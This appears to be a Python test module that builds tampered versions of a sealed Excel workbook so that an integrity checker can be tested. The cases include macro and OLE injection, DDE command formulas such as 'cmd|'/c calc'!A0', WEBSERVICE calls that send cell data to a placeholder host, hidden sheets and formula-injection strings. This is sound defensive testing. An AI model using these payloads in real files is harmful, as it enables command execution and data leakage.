"""The hostile corpus of integrity.md on a sealed kertas kerja: contents, values and wrong files, built by code.

Every case changes a true, filled, sealed workbook of the small instrument and says which kode must be told, and where.
Packages that never get past the gate stand in `jahat_paket`.
"""

from __future__ import annotations

import hashlib
import io
import re
import tomllib
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from functools import cache

from bantu.isian_acak import IDENTITAS, ISI_SAH, instrumen_text, instrumen_uji
from bantu.jahat_paket import CFB
from bantu.paket import NS_HUBUNGAN, NS_PAKET, NS_UTAMA
from benchmarks.isi import Rumus, fill, parts_of, put_cells, repack
from kinerja_core.dasar.excelmath import Galat, Nilai
from kinerja_core.dasar.identitas import Identitas
from kinerja_core.instrumen.model import Instrumen, parse_instrumen
from kinerja_core.kertas_kerja.buat import build_sealed
from kinerja_core.kertas_kerja.lembar.susun import describe
from kinerja_core.lembar.denah import Denah
from kinerja_core.lembar.isian import Isian, Kotak
from kinerja_core.segel.tanda import load_private, public_pem
from kinerja_core.xlsx.buku import Posisi, alamat


def _keys() -> tuple[bytes, bytes]:
    """The same pair in every run, so that a case can be made again: no key of anybody."""
    from cryptography.hazmat.primitives import serialization as s
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    kunci = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"kunci uji").digest())
    return kunci.private_bytes(s.Encoding.PEM, s.PrivateFormat.PKCS8, s.NoEncryption()), public_pem(kunci)


PRIBADI, PUBLIK = _keys()
KEBIJAKAN = "normalisasi"
TENGGAT = "2026-12-31"
#: The input most cases use, and the one beside it that must not be smaller.
SEL, PENYEBUT = ("r01", "pembilang"), ("r01", "penyebut")
BUKTI = ("r01", "bukti")


@cache
def denah() -> Denah:
    """The description of the form all cases start from."""
    return describe(instrumen_uji(KEBIJAKAN), IDENTITAS)


@cache
def templat(pemilik: Identitas = IDENTITAS) -> bytes:
    """The sealed form as sent, without anything typed into it."""
    return build_sealed(instrumen_uji(KEBIJAKAN), pemilik, load_private(PRIBADI), tenggat=TENGGAT)


@cache
def terisi() -> bytes:
    """The form filled without a single finding."""
    return fill(templat(), instrumen_uji(KEBIJAKAN), denah(), Isian(IDENTITAS, ISI_SAH))


def place(kotak: Kotak) -> str:
    """Where an input stands, as a finding names it."""
    lembar, posisi = denah().masukan[kotak]
    return f"{lembar}!{alamat(posisi)}"


def other_instrument(lama: str, baru: str) -> Instrumen:
    """The small instrument with a piece of its text changed: another id, year or version."""
    teks = instrumen_text(KEBIJAKAN)
    assert lama in teks
    return parse_instrumen(tomllib.loads(teks.replace(lama, baru, 1), parse_float=Decimal))


def with_value(nilai: Nilai, kotak: Kotak = SEL) -> bytes:
    """The filled form with one input changed, saved without cached results."""
    d = denah()
    isi = {**ISI_SAH, kotak: None if isinstance(nilai, Rumus) else nilai}
    data = fill(templat(), instrumen_uji(KEBIJAKAN), d, Isian(IDENTITAS, isi), tersimpan=False)
    lembar, posisi = d.masukan[kotak]
    if not isinstance(nilai, Rumus):
        return data
    return change_sheet(data, lembar, lambda xml: put_cells(xml, {alamat(posisi): nilai}))


def change_part(data: bytes, bagian: str, ubah: Callable[[str], str]) -> bytes:
    """The workbook with one part changed as text; the change must change something."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        lama = z.read(bagian).decode()
    baru = ubah(lama)
    assert baru != lama
    return repack(data, {bagian: baru.encode()})


def change_sheet(data: bytes, lembar: str, ubah: Callable[[str], str]) -> bytes:
    """change_part of a sheet by its name."""
    return change_part(data, parts_of(denah())[lembar], ubah)


def input_sheet() -> str:
    """Name of the sheet with the inputs."""
    return denah().masukan[SEL][0]


def add_part(data: bytes, nama: str, isi: bytes | str, hubungan: str, *, jenis: str = "application/xml",
             asal: str = "xl/workbook.xml", luar: str = "") -> bytes:
    """The workbook with one part more, related to `asal`; `luar` is an external target instead of a part."""
    folder, _, ekor = asal.rpartition("/")
    rels = f"{folder}/_rels/{ekor}.rels"
    arah = f'Target="{luar}" TargetMode="External"' if luar else f'Target="/{nama}"'
    tipe = hubungan if ":" in hubungan else f"{NS_HUBUNGAN}/{hubungan}"
    baris = f'<Relationship Id="jahat{len(data)}" Type="{tipe}" {arah}/>'
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        ada = z.read(rels).decode() if rels in z.namelist() else (
            f'<Relationships xmlns="{NS_PAKET}/relationships"></Relationships>')
        daftar = z.read("[Content_Types].xml").decode()
    ganti = {rels: ada.replace("</Relationships>", baris + "</Relationships>").encode()}
    if not luar:
        ganti[nama] = isi if isinstance(isi, bytes) else isi.encode()
        ganti["[Content_Types].xml"] = daftar.replace(
            "</Types>", f'<Override PartName="/{nama}" ContentType="{jenis}"/></Types>').encode()
    return repack(data, ganti)


def add_sheet(data: bytes, nama: str, status: str = "visible", sel: str = "") -> bytes:
    """One sheet more at the end."""
    isi = f'<worksheet xmlns="{NS_UTAMA}"><sheetData>{sel}</sheetData></worksheet>'
    data = add_part(data, "xl/worksheets/jahat.xml", isi, "worksheet",
                    jenis="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        kunci = re.findall(r'Id="(jahat\d+)"', z.read("xl/_rels/workbook.xml.rels").decode())[-1]
    baris = f'<sheet name="{nama}" sheetId="99" state="{status}" r:id="{kunci}"/>'
    return change_part(data, "xl/workbook.xml", lambda x: x.replace("</sheets>", baris + "</sheets>"))


@dataclass(frozen=True)
class Jahat:
    """One case: the file, the kode that must be told, the cell when one is meant, what Cek Keaslian answers.

    An empty kode: lawful, nothing may be told (beyond a keterangan).
    """

    buat: Callable[[], bytes]
    kode: str
    tempat: str = ""
    keaslian: str = "Asli"


# -- contents ----------------------------------------------------------------------------------------------------

_MS = "http://schemas.microsoft.com/office"
_MAKRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_BINER = "application/vnd.openxmlformats-officedocument.oleObject"
_LUAR = f'<externalLink xmlns="{NS_UTAMA}" xmlns:r="{NS_HUBUNGAN}">{{}}</externalLink>'
_DDE = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'


def _macro() -> bytes:
    lama = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    data = change_part(terisi(), "[Content_Types].xml", lambda x: x.replace(lama, _MAKRO))
    return add_part(data, "xl/vbaProject.bin", CFB, f"{_MS}/2006/relationships/vbaProject",
                    jenis="application/vnd.ms-office.vbaProject")


def _xlm() -> bytes:
    return add_part(terisi(), "xl/lembar9.xml", f'<macrosheet xmlns="{NS_UTAMA}"/>',
                    f"{_MS}/2006/relationships/xlMacrosheet", jenis="application/vnd.ms-excel.macrosheet+xml")


def _part(nama: str, hubungan: str, isi: bytes | str = "<a/>", **lain: str) -> Callable[[], bytes]:
    return lambda: add_part(terisi(), nama, isi, hubungan, **lain)


def _far(d: Denah) -> Posisi:
    """A blank locked cell below the last input, on a row that holds cells."""
    lembar = d.sheet(input_sheet())
    baris = max(b for b, _ in lembar.sel)
    return baris, max(k for _, k in lembar.sel) + 5


def white(kotak: bool) -> bytes:
    """A number in white on white: in an input, or far off on a row of the form."""
    putih = '<fonts count="99"><font><color rgb="FFFFFFFF"/></font>'
    data = change_part(terisi(), "xl/styles.xml", lambda x: re.sub(r'<fonts count="\d+">', putih, x, count=1))
    data = change_part(data, "xl/styles.xml", lambda x: x.replace(
        "</cellXfs>", '<xf fontId="0" applyProtection="1"><protection locked="0"/></xf></cellXfs>'))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        daftar = z.read("xl/styles.xml").decode().partition("<cellXfs")[2].partition("</cellXfs>")[0]
    nomor = len(re.findall(r"<xf ", daftar)) - 1
    if kotak:
        sel = alamat(denah().masukan[SEL][1])
        return change_sheet(data, input_sheet(), lambda x: re.sub(
            rf'<c r="{sel}"[^>]*>.*?</c>', f'<c r="{sel}" s="{nomor}"><v>5</v></c>', x))
    baris, kolom = _far(denah())
    baru = f'<c r="{alamat((baris, kolom))}" s="{nomor}"><v>99</v></c></row>'
    return change_sheet(data, input_sheet(), lambda x: re.sub(
        rf'(<row r="{baris + 1}".*?)</row>', lambda m: m[1] + baru, x, flags=re.DOTALL))


def _inserted(data: bytes) -> bytes:
    """A row of one's own pushed in above the inputs, as a program does it that leaves formulas and names alone."""
    mulai = denah().masukan[SEL][1][0] + 1

    def geser(cocok: re.Match[str]) -> str:
        nomor = int(cocok[2])
        return f"{cocok[1]}{nomor + 1 if nomor >= mulai else nomor}{cocok[3]}"

    return change_sheet(data, input_sheet(), lambda x: re.sub(
        r'(<(?:row|c) r="[A-Z]*)(\d+)(")', geser, x))


def formula_on(rumus: str) -> str:
    """Sheet data of one cell with that formula (as XML)."""
    return f'<row r="1"><c r="A1"><f>{rumus}</f></c></row>'


CMD = "cmd|'/c calc'!A0"
WEB = '_xlfn.WEBSERVICE("https://contoh.id/?x="&amp;A1)'
ISI: dict[str, Jahat] = {
    "makro, xlsm berganti nama": Jahat(_macro, "BKS08"),
    "lembar makro XLM": Jahat(_xlm, "BKS08"),
    "objek OLE": Jahat(_part("xl/embeddings/oleObject1.bin", "oleObject", CFB, asal="xl/worksheets/sheet3.xml",
                             jenis=_BINER), "BKS22"),
    "objek OLE dari luar": Jahat(_part("", "oleObject", luar="file:///C:/jahat.docx"), "BKS22"),
    "berkas sisipan": Jahat(_part("xl/embeddings/a.docx", "package", CFB, asal="xl/worksheets/sheet3.xml",
                                  jenis=_BINER), "BKS22"),
    "kontrol ActiveX": Jahat(_part("xl/activeX/activeX1.xml", "control", asal="xl/worksheets/sheet3.xml"), "BKS22"),
    "menu tambahan": Jahat(_part("customUI/a.xml", f"{_MS}/2007/relationships/ui/extensibility"), "BKS22"),
    "add-in web": Jahat(_part("xl/webextensions/taskpanes.xml", f"{_MS}/2011/relationships/webextensiontaskpanes"),
                        "BKS22"),
    "tautan ke buku lain": Jahat(lambda: add_part(
        add_part(terisi(), "xl/externalLinks/e1.xml", _LUAR.format('<externalBook r:id="rId1"/>'), "externalLink"),
        "", "", "externalLinkPath", asal="xl/externalLinks/e1.xml", luar="file:///D:/data.xlsx"), "BKS23"),
    "gambar dari luar": Jahat(_part("", "image", asal="xl/drawings/drawing1.xml", luar="https://contoh.id/a.png"),
                              "BKS23"),
    "sambungan data": Jahat(_part("xl/connections.xml", "connections"), "BKS22"),
    "tabel kueri": Jahat(_part("xl/queryTables/q1.xml", "queryTable", asal="xl/worksheets/sheet3.xml"), "BKS22"),
    "tautan DDE": Jahat(_part("xl/externalLinks/e1.xml", "externalLink", _LUAR.format(_DDE)), "BKS22"),
    "rumus DDE": Jahat(lambda: with_value(Rumus(CMD)), "BKS24", place(SEL)),
    "WEBSERVICE di isian": Jahat(lambda: with_value(Rumus('WEBSERVICE("https://contoh.id")')), "BKS24", place(SEL)),
    "WEBSERVICE di lembar tambahan": Jahat(lambda: add_sheet(terisi(), "Sisipan", sel=formula_on(WEB)), "BKS24",
                                           "Sisipan!A1"),
    "lembar tambahan": Jahat(lambda: add_sheet(terisi(), "Sisipan"), "SGL06", "Sisipan"),
    "lembar tersembunyi": Jahat(lambda: add_sheet(terisi(), "Sisipan", "hidden"), "SGL07", "Sisipan", "Tidak asli"),
    "lembar sangat tersembunyi": Jahat(lambda: add_sheet(terisi(), "Sisipan", "veryHidden"), "SGL07", "Sisipan",
                                       "Tidak asli"),
    "baris baru di atas isian": Jahat(lambda: _inserted(terisi()), "SGL10",
                                      f"{input_sheet()}!{denah().masukan[SEL][1][0] + 1}:"
                                      f"{denah().masukan[SEL][1][0] + 1}", "Tidak asli"),
    "putih di atas putih, sel terkunci": Jahat(lambda: white(False), "SGL04",
                                               f"{input_sheet()}!{alamat(_far(denah()))}", "Tidak asli"),
    "tanggal 1904": Jahat(lambda: change_part(terisi(), "xl/workbook.xml", lambda x: x.replace(
        "<workbookPr", '<workbookPr date1904="1"')), "SGL25"),
    "dimensi sejuta baris": Jahat(lambda: change_sheet(terisi(), input_sheet(), lambda x: re.sub(
        r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', x)), ""),
    "tautan untuk diklik": Jahat(_part("", "hyperlink", asal="xl/worksheets/sheet3.xml", luar="https://contoh.id"), ""),
    "namespace ketat": Jahat(lambda: _strict(terisi()), ""),
}  # fmt: skip


def _strict(data: bytes) -> bytes:
    """The same workbook in the strict namespaces of ISO 29500."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        isi = {n: z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels"))}
    tukar = ((NS_UTAMA, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
             (NS_HUBUNGAN, "http://purl.oclc.org/ooxml/officeDocument/relationships"))
    for nama, teks in isi.items():
        for lama, baru in tukar:
            isi[nama] = teks = teks.replace(lama.encode(), baru.encode())
    return repack(data, isi)


# -- values ------------------------------------------------------------------------------------------------------

#: What is typed into an input for a count -> kode told at that input ("" where it is in order).
NILAI: dict[str, tuple[Nilai, str]] = {
    "teks, titik ribuan": ("1.950", "ISI05"), "teks, koma desimal": ("7,5", "ISI05"),
    "teks, cara Inggris": ("1,950.00", "ISI05"), "angka lebar penuh": ("１２", "ISI06"),
    "angka Arab": ("٣", "ISI06"), "huruf O untuk nol": ("8O", "ISI06"), "NBSP": ("5\u00a0", "ISI05"),
    "spasi di tepi": (" 5 ", "ISI05"), "spasi saja": ("   ", "ISI01"), "tanda tak tampak": ("7\u200b", "ISI06"),
    "persen sebagai teks": ("93%", "ISI05"), "tanggal sebagai angka": (44927, "ISI14"),
    "tanggal sebagai teks": ("31 Jan 2022", "ISI06"), "TRUE": (True, "ISI03"), "#N/A": (Galat("#N/A"), "ISI02"),
    "1E308": (1e308, "ISI08"), "negatif": (-1, "ISI07"), "melebihi pembanding": (10, "HUB01"),
    "berdesimal": (7.5, "ISI09"), "kosong": (None, "ISI01"), "tanda hubung": ("-", "ISI04"), "nol": (0, ""),
    "Tidak relevan": ("Tidak relevan", "ISI13"), "teks sangat panjang": ("x" * 32_767, "ISI06"),
    "rumus": (Rumus("3+4"), "BKS12"), "HYPERLINK": (Rumus('HYPERLINK("https://contoh.id","7")'), "BKS12"),
    "awalan +": ("+7", "ISI05"), "awalan -": ("-7", "ISI05"), "awalan @": ("@SUM(1)", "ISI06"),
    "awalan TAB": ("\t=1+1", "ISI06"), "awalan CR": ("\r=1+1", "ISI06"), "awalan =": ("=1+1", "ISI06"),
}  # fmt: skip
#: Texts a spreadsheet would run when a table is opened; typed as evidence, where any text is in order.
SUNTIKAN = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", '=HYPERLINK("https://contoh.id")',
            "=cmd|'/c calc'!A0", "\u200b=1+1")
